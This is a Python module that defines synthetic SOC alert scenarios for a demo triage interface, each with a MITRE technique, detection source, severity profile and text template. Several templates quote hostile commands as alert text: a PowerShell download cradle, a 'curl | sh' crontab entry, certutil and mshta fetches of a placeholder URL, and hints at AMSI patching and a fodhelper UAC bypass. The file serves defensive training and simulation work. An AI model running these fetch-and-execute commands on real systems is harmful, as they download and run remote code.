"""What the demo alerts are about: one scenario per kind of detection a SOC really sees,
with the source that raises it, a technique that fits the category and text templates.

Placeholders in `title` and `detail` are keys of `pools.FACTORIES` plus `host`, `ip`,
`owner` and `user`; literal braces would need doubling, so templates avoid them.
"""

from __future__ import annotations

from dataclasses import dataclass

from zshield_tui.domain import Severity

# Weights for critical, high, medium, low, informational. Most detections are noise-level;
# the few critical ones are what the triage queue exists for.
_C, _H, _M, _L, _I = (Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW,
                      Severity.INFORMATIONAL)
SEVERITY_PROFILES: dict[str, dict[Severity, int]] = {
    "info": {_C: 0, _H: 0, _M: 10, _L: 40, _I: 50},
    "low": {_C: 0, _H: 3, _M: 25, _L: 55, _I: 17},
    "med": {_C: 1, _H: 12, _M: 57, _L: 27, _I: 3},
    "high": {_C: 6, _H: 48, _M: 40, _L: 6, _I: 0},
    "crit": {_C: 45, _H: 45, _M: 10, _L: 0, _I: 0},
}


@dataclass(frozen=True, slots=True)
class Scenario:
    key: str
    category: str
    technique: str | None
    source: str
    title: str
    detail: str
    iocs: tuple[str, ...]       # IOC types, each read from the placeholder of the same kind
    targets: tuple[str, ...]    # pools.HOST_GROUPS names
    weight: int                 # relative frequency in the alert stream
    severity: str               # SEVERITY_PROFILES name
    tags: tuple[str, ...] = ()


def _s(key: str, category: str, technique: str | None, source: str, title: str,
       detail: str, iocs: tuple[str, ...], targets: tuple[str, ...], weight: int,
       severity: str, *tags: str) -> Scenario:
    return Scenario(key, category, technique, source, title, detail, iocs, targets, weight,
                    severity, tags)


SCENARIOS: tuple[Scenario, ...] = (
    # execution
    _s("ps-cradle", "execution", "T1059.001", "EDR", "PowerShell download cradle on {host}",
       "powershell.exe -nop -w hidden ran IEX (New-Object Net.WebClient).DownloadString("
       "'{url}') as {user}.\nParent process: {parent}; the script was not signed.",
       ("url", "domain"), ("ws", "winsrv"), 6, "high", "windows", "powershell"),
    _s("ps-encoded", "execution", "T1059.001", "Elastic Security",
       "Encoded PowerShell command run by {user} on {host}",
       "powershell.exe -EncodedCommand with a {b64len}-character argument.\n"
       "The decoded script patches AMSI in memory and contacts {domain}.",
       ("domain",), ("ws",), 4, "med", "windows", "powershell"),
    _s("office-child", "execution", "T1204.002", "EDR", "[EDR] {office} spawned cmd.exe on {host}",
       "{office} opened {file} from {user}'s mailbox and started cmd.exe /c.\n"
       "cmd.exe wrote a DLL to %APPDATA% and loaded it with rundll32.exe.",
       ("sha256",), ("ws",), 3, "high", "windows", "office"),
    _s("falco-shell", "execution", "T1059.004", "Falco",
       "Terminal shell in container {pod} on {host}",
       "Falco rule 'Terminal shell in container' fired (user=root, command=bash -il).\n"
       "Namespace {namespace}; the image is not on the debug allow-list.",
       (), ("k8s",), 5, "med", "kubernetes", "container"),
    # credential-access
    _s("ssh-brute", "credential-access", "T1110.001", "Wazuh",
       "sshd: brute force trying to get access to the system [rule 5712] on {host}",
       "{fails} failed SSH logins in 2 minutes from {ext_ip} for root, admin and ubuntu.\n"
       "No successful logon followed from that address.",
       ("ip",), ("edge", "linux"), 12, "low", "ssh", "brute-force"),
    _s("vpn-brute", "credential-access", "T1110", "Wazuh", "Brute force against {host}",
       "{fails} failed VPN authentications from {ext_ip} in 10 minutes.\n"
       "Targeted accounts include {user}; the gateway locked none of them.",
       ("ip",), ("vpn",), 6, "med", "vpn", "brute-force"),
    _s("okta-spray", "credential-access", "T1110.003", "Okta",
       "Password spray against Okta: {accounts} accounts from {ext_ip}",
       "user.session.start failures (INVALID_CREDENTIALS) for {accounts} distinct users from "
       "{ext_ip} ({country}) within 15 minutes.\nThe last attempt targeted {user}.",
       ("ip",), ("okta",), 5, "med", "okta", "identity"),
    _s("lsass", "credential-access", "T1003.001", "EDR",
       "[EDR] LSASS memory read by {proc} on {host}",
       "{proc} opened lsass.exe with PROCESS_VM_READ and wrote a {mb} MB dump to "
       "C:\\Windows\\Temp.\nThe process ran as {user}.",
       ("sha256",), ("ws", "winsrv"), 2, "crit", "windows", "credential-dumping"),
    _s("kerberoast", "credential-access", "T1558.003", "Elastic Security",
       "Kerberoasting: {spns} RC4 service tickets requested by {user}",
       "Event 4769 with ticket encryption 0x17 for {spns} service accounts within 60 s.\n"
       "Requests came from {host}, which {user} does not normally use.",
       (), ("ws",), 2, "high", "active-directory"),
    _s("mfa-fatigue", "credential-access", "T1621", "Okta",
       "MFA push fatigue: {pushes} denied pushes for {user}",
       "{pushes} Okta Verify pushes were denied in 20 minutes.\n"
       "The next push was approved from {ext_ip} ({country}).",
       ("ip",), ("okta",), 2, "high", "okta", "mfa"),
    # lateral-movement
    _s("psexec", "lateral-movement", "T1021.002", "EDR",
       "PsExec service installed on {host} from {src_host}",
       "Service PSEXESVC was created over SMB (ADMIN$) by {user} from {src_host} ({src_ip}).\n"
       "{user} has no admin role on {host}.",
       (), ("winsrv",), 3, "high", "windows", "smb"),
    _s("rdp", "lateral-movement", "T1021.001", "Wazuh",
       "Unusual RDP logon to {host} from workstation {src_host}",
       "Logon type 10 by {user} from {src_ip}.\n{user} has not logged on to {host} in 90 days.",
       (), ("winsrv",), 4, "med", "windows", "rdp"),
    _s("winrm", "lateral-movement", "T1021.006", "Elastic Security",
       "WinRM remote command on {host} from {src_host}",
       "wsmprovhost.exe started powershell.exe on {host} for {user} connecting from {src_ip}.",
       (), ("winsrv",), 2, "med", "windows"),
    _s("ssh-fanout", "lateral-movement", "T1021.004", "Zeek",
       "Internal SSH fan-out from {src_host}: {hosts_n} hosts in 5 minutes",
       "Zeek conn.log shows SSH sessions from {src_ip} to {hosts_n} internal hosts, "
       "{host} among them.\nThe source is a workstation, not a bastion.",
       (), ("linux",), 2, "med", "ssh"),
    # exfiltration
    _s("big-upload", "exfiltration", "T1048.003", "Zeek",
       "Large outbound transfer from {host} to {ext_ip} ({mb} MB)",
       "{mb} MB left {host} over plain HTTP to {ext_ip} in one session.\n"
       "The baseline for {host} is under 20 MB a day.",
       ("ip",), ("data", "linux"), 3, "high", "dlp"),
    _s("cloud-upload", "exfiltration", "T1567.002", "Elastic Security",
       "Upload to unsanctioned cloud storage by {user} ({mb} MB)",
       "{user} uploaded {mb} MB from {host} to {url}.\nThe proxy category is file-sharing.",
       ("url", "domain"), ("ws",), 3, "med", "dlp"),
    _s("s3-anomaly", "exfiltration", "T1537", "AWS GuardDuty",
       "[GuardDuty] Exfiltration:S3/AnomalousBehavior on s3://{bucket}",
       "IAM user {principal} made {objects} GetObject calls against s3://{bucket} from {ext_ip}.\n"
       "Account {account}; the principal never read this bucket before.",
       ("ip",), ("cloud",), 1, "high", "aws", "s3"),
    # phishing
    _s("phish-link", "phishing", "T1566.002", "Elastic Security",
       "Credential-harvesting link delivered to {user}: \"{subject}\"",
       "Message from {sender} with a link to {url}.\n{clicks} recipients clicked before the "
       "message was pulled.",
       ("email", "url", "domain"), ("ws",), 5, "med", "email"),
    _s("phish-attach", "phishing", "T1566.001", "EDR",
       "[Phish] Malicious attachment {file} opened by {user}",
       "{file} arrived from {sender} (\"{subject}\") and was opened on {host}.\n"
       "The attachment dropped a payload that EDR blocked.",
       ("email", "sha256"), ("ws",), 2, "high", "email"),
    _s("phish-report", "phishing", "T1566", "Elastic Security",
       "User-reported phishing from {user}: \"{subject}\"",
       "{user} used the Report button on a message from {sender}.\n"
       "12 other mailboxes received the same message.",
       ("email", "domain"), ("ws",), 4, "low", "email", "user-report"),
    # malware
    _s("quarantine", "malware", "T1204.002", "EDR", "Known-bad file quarantined on {host}: {file}",
       "The file matched a threat-intel hash and was quarantined before it ran.\nUser: {user}.",
       ("sha256",), ("ws",), 6, "low", "av"),
    _s("cobalt", "malware", "T1071.001", "Suricata",
       "ET MALWARE Cobalt Strike Beacon Observed [1:2027865:5] from {host}",
       "HTTP GET to {domain} ({ext_ip}) with a Malleable C2 profile URI and cookie.\n"
       "Sessions repeat every {interval} s with jitter.",
       ("ip", "domain"), ("ws", "winsrv"), 1, "crit", "c2", "cobalt-strike"),
    _s("ransom", "malware", "T1486", "EDR",
       "[EDR] Ransomware behaviour on {host}: {files_n} files renamed to .{ext}",
       "{proc} rewrote {files_n} files on mapped shares within 3 minutes.\n"
       "Volume shadow copies were deleted just before.",
       ("sha256",), ("ws", "winsrv"), 1, "crit", "ransomware"),
    _s("stealer", "malware", "T1555.003", "EDR",
       "Infostealer read browser credential stores on {host}",
       "An unsigned binary read Chrome and Edge Login Data, then posted 2 MB to {ext_ip}.\n"
       "Saved passwords of {user} should be treated as exposed.",
       ("sha256", "ip"), ("ws",), 1, "high", "infostealer"),
    _s("miner", "malware", "T1496", "Falco", "Crypto miner started in pod {pod}",
       "Falco rule 'Detect outbound connections to common miner pool ports' fired.\n"
       "The pod connects to {domain}:3333 from {host}.",
       ("domain",), ("k8s",), 1, "high", "kubernetes", "cryptomining"),
    # reconnaissance
    _s("nmap-ua", "reconnaissance", "T1595.002", "Suricata",
       "ET SCAN Nmap Scripting Engine User-Agent Detected [1:2009358:6] against {host}",
       "{ext_ip} sent requests with the Nmap NSE user agent to {host}.", ("ip",),
       ("web", "edge"), 10, "info", "scan"),
    _s("port-scan", "reconnaissance", "T1046", "Zeek",
       "Internal port scan from {host}: {ports} ports on {hosts_n} hosts",
       "Zeek notice Scan::Port_Scan: {host} probed {ports} ports across {hosts_n} hosts.\n"
       "{host} is not a registered vulnerability scanner.",
       (), ("ws", "linux"), 3, "med", "scan"),
    _s("ldap-enum", "reconnaissance", "T1087.002", "EDR",
       "SharpHound-like LDAP enumeration from {host}",
       "{host} issued 18,000 LDAP queries for users, groups and ACLs in 4 minutes as {user}.",
       (), ("ws",), 1, "high", "active-directory"),
    _s("port-probe", "reconnaissance", "T1595", "AWS GuardDuty",
       "[GuardDuty] Recon:EC2/PortProbeUnprotectedPort on {instance}",
       "{ext_ip} probed an open port on {instance} ({host}) in account {account}.",
       ("ip",), ("cloud",), 4, "low", "aws"),
    # persistence
    _s("sched-task", "persistence", "T1053.005", "EDR",
       "Scheduled task '{task}' created on {host} by {user}",
       "schtasks.exe /create /sc onlogon runs a binary from %LOCALAPPDATA%.\n"
       "The binary is signed by no one and was first seen today.",
       ("sha256",), ("ws", "winsrv"), 3, "med", "windows"),
    _s("run-key", "persistence", "T1547.001", "Wazuh",
       "Registry Run key added on {host}: {regval}",
       "Wazuh syscheck saw a new Run value pointing at %TEMP%.\nLast interactive user: {user}.",
       (), ("ws",), 2, "med", "windows", "registry"),
    _s("iam-user", "persistence", "T1136.003", "AWS GuardDuty",
       "[GuardDuty] Persistence:IAMUser/AnomalousBehavior: CreateUser by {principal}",
       "{principal} created an IAM user with console access from {ext_ip}.\nAccount {account}.",
       ("ip",), ("cloud",), 1, "high", "aws", "iam"),
    _s("mfa-enroll", "persistence", "T1098.005", "Okta",
       "New MFA factor enrolled for {user} from {country}",
       "A new Okta Verify device was enrolled from {ext_ip} ({country}) 3 minutes after a "
       "password reset.", ("ip",), ("okta",), 2, "med", "okta", "mfa"),
    _s("cron", "persistence", "T1053.003", "Wazuh",
       "Crontab modified on {host}: curl | sh entry",
       "A new crontab line runs curl -s {url} | sh every 10 minutes as www-data.",
       ("url", "domain"), ("linux",), 1, "high", "linux"),
    # privilege-escalation
    _s("domain-admins", "privilege-escalation", "T1098", "Wazuh",
       "User {user} added to Domain Admins on {host}",
       "Event 4728: {user} was added to Domain Admins by svc-backup.\n"
       "No change ticket references this account.",
       (), ("dc",), 1, "high", "active-directory"),
    _s("sudo", "privilege-escalation", "T1548.003", "Wazuh",
       "sudo to root by {user} on {host} outside the change window",
       "{user} ran sudo -i at an hour with no approved change on {host}.",
       (), ("linux",), 5, "low", "linux"),
    _s("priv-pod", "privilege-escalation", "T1611", "Falco", "Launch Privileged Container: {pod}",
       "Falco rule 'Launch Privileged Container' fired on {host}.\n"
       "The pod mounts the host's /var/run/docker.sock.",
       (), ("k8s",), 2, "med", "kubernetes", "container"),
    _s("uac-bypass", "privilege-escalation", "T1548.002", "EDR",
       "[EDR] UAC bypass via fodhelper.exe on {host}",
       "HKCU ms-settings shell open command was set, then fodhelper.exe ran it elevated.\n"
       "User: {user}.", (), ("ws",), 1, "high", "windows"),
    # policy-violation
    _s("rat-tool", "policy-violation", "T1219", "EDR",
       "Unapproved remote access tool {tool} on {host}",
       "{tool} was installed by {user}; it is not on the software allow-list.",
       (), ("ws",), 5, "low", "shadow-it"),
    _s("tor", "policy-violation", "T1090.003", "Suricata",
       "ET POLICY TOR Relay Traffic [1:2522010:4] from {host}",
       "{host} connected to the known Tor relay {ext_ip} on port 9001.",
       ("ip",), ("ws",), 3, "low", "tor"),
    _s("usb", "policy-violation", "T1052.001", "Wazuh",
       "USB mass storage mounted on {host} by {user}",
       "A removable drive was mounted; the DLP policy allows read only.",
       (), ("ws",), 5, "info", "usb"),
    _s("p2p", "policy-violation", None, "Suricata",
       "ET P2P BitTorrent peer sync [1:2008581:3] from {host}",
       "{host} exchanged BitTorrent peer messages with {ext_ip}.", ("ip",), ("ws",), 3, "info",
       "p2p"),
    # initial-access
    _s("log4j", "initial-access", "T1190", "Suricata",
       "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228) [1:2034647:2] against {host}",
       "{ext_ip} sent a jndi:ldap lookup in the User-Agent header to {host}.\n"
       "No outbound LDAP connection followed.",
       ("ip",), ("web",), 4, "med", "exploit", "cve-2021-44228"),
    _s("impossible-travel", "initial-access", "T1078.004", "Okta",
       "Impossible travel: {user} signed in from {country}",
       "Two sessions for {user} 40 minutes apart, 6,000 km apart; the second came from "
       "{ext_ip}.", ("ip",), ("okta",), 3, "med", "okta", "identity"),
    # defense-evasion
    _s("log-cleared", "defense-evasion", "T1070.001", "Wazuh",
       "Windows Security log cleared on {host}",
       "Event 1102: the audit log was cleared by {user}.", (), ("winsrv", "ws"), 1, "high",
       "windows"),
    _s("edr-tamper", "defense-evasion", "T1562.001", "EDR",
       "[EDR] Sensor tampering attempt on {host}",
       "{proc} tried to stop the EDR service and unload its driver; tamper protection "
       "blocked it.", ("sha256",), ("ws", "winsrv"), 1, "high", "tamper"),
    _s("cloudtrail-off", "defense-evasion", "T1562.008", "AWS GuardDuty",
       "[GuardDuty] Stealth:IAMUser/CloudTrailLoggingDisabled in account {account}",
       "{principal} called StopLogging on the organisation trail from {ext_ip}.",
       ("ip",), ("cloud",), 1, "high", "aws"),
    _s("mshta", "defense-evasion", "T1218.005", "EDR",
       "mshta.exe ran a remote HTA from {domain} on {host}",
       "mshta.exe {url} started from {parent} as {user}.", ("url", "domain"), ("ws",), 1,
       "high", "windows", "lolbin"),
    # command-and-control
    _s("beacon", "command-and-control", "T1071.001", "Zeek",
       "Periodic beaconing from {host} to {domain} every {interval}s",
       "Zeek saw 400+ HTTPS sessions from {host} to {domain} ({ext_ip}) at a fixed interval.\n"
       "The certificate is self-signed.", ("domain", "ip"), ("ws", "linux"), 3, "med", "c2"),
    _s("dns-tunnel", "command-and-control", "T1071.004", "Suricata",
       "Possible DNS tunnelling from {host}: {queries} TXT queries to {domain}",
       "{queries} TXT lookups with 60-character random labels under {domain} in one hour.",
       ("domain",), ("ws", "linux"), 1, "high", "dns", "c2"),
    _s("certutil", "command-and-control", "T1105", "EDR",
       "certutil.exe downloaded {file} on {host}",
       "certutil.exe -urlcache -split -f {url} wrote {file} to %TEMP% as {user}.",
       ("url", "domain", "sha256"), ("ws",), 2, "med", "windows", "lolbin"),
)

CATEGORIES: dict[str, tuple[Scenario, ...]] = {}
for _sc in SCENARIOS:
    CATEGORIES[_sc.category] = (*CATEGORIES.get(_sc.category, ()), _sc)
